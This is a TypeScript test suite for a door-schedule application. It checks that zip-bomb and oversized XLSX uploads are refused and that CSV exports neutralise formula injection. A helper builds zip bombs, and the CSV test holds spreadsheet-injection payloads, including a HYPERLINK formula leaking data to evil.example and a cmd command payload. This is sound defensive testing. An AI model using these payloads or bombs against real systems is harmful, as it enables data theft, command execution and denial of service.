// Hostile schedule files: zip bombs and oversized workbooks are refused unread
// with a clear message, within stated limits of bytes, rows and cells; exported
// CSV cannot run formulas in a spreadsheet, and imports back exactly.
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { createDeflateRaw, crc32 } from 'node:zlib';
import Papa from 'papaparse';
import { createApp } from '../../app/index';
import { runCli } from '../../cli/main';
import type { Opening } from '../../core/schedule/types';
import { migrate } from '../../db/migrate';
import { applyImport, createSite, exportSite, insertOpening, listOpenings, previewImport } from '../../db/schedule';
import { openSqlite } from '../../db/sqlite';
import { GOOD } from '../fixtures/schedules/openings';
import { readXlsx, writeXlsx } from '../../db/schedule/files';
import { checkXlsxBounds, XLSX_LIMITS } from '../../db/schedule/xlsx-guard';
import { tempDir } from '../support/tmp';
import { zip, type ZipPart } from '../support/zip';

const MB = 1024 * 1024;

/** `head`, then `mb` megabytes of one letter, then `tail`, deflated in a stream (never held inflated). */
async function bombPart(name: string, head: string, mb: number, tail: string): Promise<ZipPart> {
  const z = createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  z.on('data', (c: Buffer) => out.push(c));
  const done = new Promise((r) => z.on('end', r));
  let crc = crc32(head);
  z.write(head);
  const chunk = Buffer.alloc(MB, 'A');
  for (let i = 0; i < mb; i++) {
    crc = crc32(chunk, crc);
    if (!z.write(chunk)) await new Promise((r) => z.once('drain', r));
  }
  crc = crc32(tail, crc);
  z.end(tail);
  await done;
  return { name, deflated: { data: Buffer.concat(out), size: head.length + mb * MB + tail.length, crc } };
}

const SKELETON: ZipPart[] = [
  {
    name: '[Content_Types].xml',
    content:
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
  },
  {
    name: 'xl/workbook.xml',
    content:
      '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
  },
];
const SHEET: ZipPart = {
  name: 'xl/worksheets/sheet1.xml',
  content:
    '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>',
};

test('XLSX zip bombs are refused unread, whatever size the zip declares', async (t) => {
  // 60 MB of shared strings from a file of about 60 kB: over the 50 MB text-table limit.
  const strings = await bombPart('xl/sharedStrings.xml', '<sst><si><t>', 60, '</t></si></sst>');
  const stringsBomb = zip([...SKELETON, strings, SHEET]);
  assert.ok(stringsBomb.length < 200 * 1024, `the bomb is small (${stringsBomb.length} bytes)`);
  assert.match((await checkXlsxBounds(stringsBomb))!, /shared strings\) unpacks to more than 50 MB/);
  // The same part declaring 100 bytes: sizes are counted, not believed.
  const lying = zip([...SKELETON, { ...strings, declaredSize: 100 }, SHEET]);
  assert.match((await checkXlsxBounds(lying))!, /unpacks to more than 50 MB/);
  // A worksheet that inflates past 200 MB.
  const sheet = await bombPart(
    'xl/worksheets/sheet1.xml',
    '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>',
    210,
    '</t></is></c></row></sheetData></worksheet>',
  );
  const sheetBomb = zip([...SKELETON, sheet]);
  assert.match((await checkXlsxBounds(sheetBomb))!, /unpacks to more than 200 MB \(the limit for a schedule\)/);

  // Through the API: one clear problem, nothing imported.
  const dir = tempDir(t);
  const app = await createApp({ dbFile: join(dir, 'd.sqlite'), dataDir: dir, demo: false });
  t.after(() => app.close());
  for (const bomb of [stringsBomb, sheetBomb]) {
    const p = await app.call('previewImport', {
      fileName: 'doors.xlsx',
      contentBase64: bomb.toString('base64'),
      siteName: 'X',
    });
    assert.equal(p.errors.length, 1);
    assert.match(p.errors[0]!.reason, /unpacks to more than/);
    assert.equal(p.rowCount, 0);
  }
});

test('a damaged or padded zip is refused with a reason, not read', async () => {
  const good = zip([...SKELETON, SHEET]);
  assert.equal(await checkXlsxBounds(good), null);
  assert.match((await checkXlsxBounds(good.subarray(0, good.length - 30)))!, /zip directory is missing/);
  // Data smuggled between the parts and the directory.
  const cdAt = good.readUInt32LE(good.length - 22 + 16);
  const padded = Buffer.concat([good.subarray(0, cdAt), Buffer.from('PK\u0003\u0004junkjunk'), good.subarray(cdAt)]);
  assert.ok((await checkXlsxBounds(padded)) !== null);
});

test('XLSX rows and cells beyond the limits are refused, naming the limit', async () => {
  const headers = ['opening_id', 'category', 'lock_type', 'fail_mode'];
  const rows = Array.from({ length: 12 }, (_, i) => [`1-${i}`, 'egress', 'maglock', 'fail-safe']);
  const bytes = await writeXlsx(headers, rows);
  assert.deepEqual((await readXlsx(bytes)).errors, []);
  const r = await readXlsx(bytes, { ...XLSX_LIMITS, maxRows: 10 });
  assert.equal(r.errors.length, 1);
  assert.match(r.errors[0]!.reason, /more than 10 rows \(the limit for a schedule\)/);
  assert.equal(r.errors[0]!.row, 12);
  const c = await readXlsx(bytes, { ...XLSX_LIMITS, maxCells: 30 });
  assert.match(c.errors[0]!.reason, /more than 30 filled cells/);
  assert.equal(XLSX_LIMITS.maxRows, 100_000, 'the documented limit');
});

test('CSV export neutralises formula-like cells (and headers); import undoes it exactly', async (t) => {
  const dir = tempDir(t);
  const db = openSqlite(join(dir, 'csv.sqlite'));
  t.after(() => db.close());
  migrate(db);
  const now = new Date('2026-01-01T00:00:00Z');
  const hostile: Opening[] = [
    {
      ...GOOD,
      opening_id: '1-101',
      location: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      building: '-2+3',
      hardware_set: '@SUM(1+1)',
      power_supply: '+cmd|" /C calc"!A0',
      code_basis: "'=already quoted",
      door_type: "''+two apostrophes",
      frame_type: "'plain apostrophe",
      notes: '=1+1\n-second line',
      extras: { '=Header': '@x', Safe: "it's fine" },
    },
    { ...GOOD, opening_id: '1-102', location: 'a=b', extras: {} },
  ];
  const site = createSite(db, 'Hostile', now);
  db.transaction(() => hostile.forEach((o, i) => insertOpening(db, site.id, o, i, now)));
  const file = await exportSite(db, site.id, 'csv');
  // What a spreadsheet sees: no cell starts with a formula character.
  const cells = Papa.parse<string[]>(file.bytes.toString('utf8').replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data.flat();
  assert.deepEqual(
    cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
    [],
  );
  for (const c of ["'=HYPERLINK(", "'-2+3", "'@SUM(1+1)", "'+cmd|", "''=already quoted", "'''+two apostrophes", "'=Header", "'@x"])
    assert.ok(
      cells.some((x) => x.startsWith(c)),
      c,
    );
  assert.ok(cells.includes("'plain apostrophe"), 'an apostrophe before ordinary text is left alone');
  const p = await previewImport(db, { fileName: file.fileName, bytes: file.bytes, siteName: 'Back' });
  assert.deepEqual(p.errors, []);
  const r = await applyImport(db, {
    fileName: file.fileName,
    bytes: file.bytes,
    siteName: 'Back',
    confirmDiffHash: p.diffHash!,
    editor: 't',
    now,
  });
  assert.deepEqual(listOpenings(db, r.siteId), hostile);
});

test('doorcx import: a huge bad cell on many rows is one short line on stderr; mixed line endings one message', async (t) => {
  const dir = tempDir(t);
  const huge = 'lobby'.repeat(1_000_000);
  const file = join(dir, 'huge.csv');
  writeFileSync(
    file,
    `opening_id,category,lock_type,fail_mode\n1-1,${huge},maglock,fail-safe\n1-2,${huge},maglock,fail-safe\n1-3,egress,maglock,fail-safe\n1-4,${huge},maglock,fail-safe\n`,
  );
  let err = '';
  const code = await runCli(['import', file, '--db', join(dir, 'd.sqlite')], { out: () => {}, err: (s) => (err += s) });
  assert.equal(code, 1);
  assert.ok(err.length < 1000, `stderr is ${err.length} characters`);
  const lines = err.trim().split('\n');
  assert.equal(lines.length, 2, err);
  assert.match(lines[0]!, /rejected \(1 problem\)/);
  assert.match(
    lines[1]!,
    /row 2, column "category": value "(lobby){16}… \[5000000 characters\]": Category must be one of: .* \(the same on rows 3, 5\)$/,
  );

  const mixed = join(dir, 'mixed.csv');
  writeFileSync(
    mixed,
    'opening_id,category,lock_type,fail_mode\r\n1-1,egress,maglock,fail-safe\r\n1-2,egress,maglock,fail-safe\n1-3,egress,maglock,fail-safe\r\n',
  );
  err = '';
  assert.equal(await runCli(['import', mixed, '--db', join(dir, 'd.sqlite')], { out: () => {}, err: (s) => (err += s) }), 1);
  assert.match(err, /\(1 problem\)[^]*row 3: The file mixes line endings/);
});
